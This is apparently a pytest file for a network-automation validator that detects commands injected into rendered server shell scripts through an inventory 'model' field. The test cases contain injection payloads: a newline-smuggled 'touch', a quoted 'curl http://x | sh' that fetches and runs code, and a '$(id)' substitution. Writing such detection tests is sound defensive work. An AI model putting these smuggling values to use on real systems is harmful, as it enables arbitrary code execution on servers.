"""HOST-08: a server script that runs a command no template writes is an error (the issue's `model` injection,
hand-edited into a --configs tree, passes `sh -n` and shellcheck)."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from conftest import DEFAULT_INVENTORY, GOLDEN

from netauto.formats.shell import command_heads
from netauto.validate.rules.scripts import KNOWN_COMMANDS, unknown_commands

SCRIPTS = sorted(GOLDEN.glob("*/*/usr/local/sbin/netauto-*.sh"))


def test_every_shipped_script_runs_known_commands_only() -> None:
    assert len(SCRIPTS) > 100
    for path in SCRIPTS:
        if path.name == "netauto-bmc-lan.sh":
            continue
        assert unknown_commands(path.read_text(), path.parts[-5]) == [], path


def test_known_commands_are_all_used() -> None:
    """The list holds nothing the templates do not write (a stale entry would let that command through)."""
    used = {word for path in SCRIPTS for _, word in command_heads(path.read_text())}
    assert KNOWN_COMMANDS - used <= {"test", "true", "false", ":", "break", "local", "wait"}


@pytest.mark.parametrize("injected, word", [
    ("NVIDIA DGX H100\ntouch /tmp/PWNED #", ["touch"]),
    ('x"; curl http://x | sh; echo "', ["curl", "sh"]),
    ("$(id)", None),
])
def test_injected_command_is_found(injected: str, word: list[str] | None) -> None:
    path = next(p for p in SCRIPTS if p.name == "netauto-roce-qos.sh" and "NVIDIA DGX H100" in p.read_text())
    text = path.read_text()
    assert "NVIDIA DGX H100" in text
    if word is None:  # a command substitution inside a double-quoted message
        text = text.replace("no rail NIC $want", "no rail NIC $(id) $want", 1)
        word = ["id"]
    else:
        text = text.replace("NVIDIA DGX H100", injected, 1) if "\n" in injected else text.replace(
            'echo "netauto-roce-qos: unknown option', f'echo "{injected} unknown option', 1)
    found = unknown_commands(text, path.parts[-5])
    assert [w for _, w in found] == word, found


@pytest.mark.tools
def test_validate_configs_reports_the_issue_injection(tmp_path: Path) -> None:
    """`netauto validate --configs` on a rendered tree whose script holds the issue's `model` injection: HOST-08."""
    from netauto.pipeline import validate

    configs = tmp_path / "configs"
    shutil.copytree(GOLDEN / "gpu-pod1", configs / "gpu-pod1")
    script = next((configs / "gpu-pod1").glob("*/usr/local/sbin/netauto-roce-qos.sh"))
    script.write_text(script.read_text().replace("NVIDIA DGX H100", "NVIDIA DGX H100\ntouch /tmp/PWNED #", 1))
    result = validate(DEFAULT_INVENTORY, configs=configs, external=False, simulate=False)
    hits = [f for f in result.findings if f.rule == "HOST-08"]
    assert len(hits) == 1 and "touch" in hits[0].message and hits[0].device == script.parts[-5]


def test_comment_filter_keeps_inventory_text_on_its_line() -> None:
    """Defence in depth: the renderers' `comment` filter, used wherever inventory text lands in a comment."""
    from netauto.render.jinja_env import comment_text

    assert comment_text("DGX\ntouch /tmp/PWNED #\r\x00\u2028x") == "DGX touch /tmp/PWNED #   x"
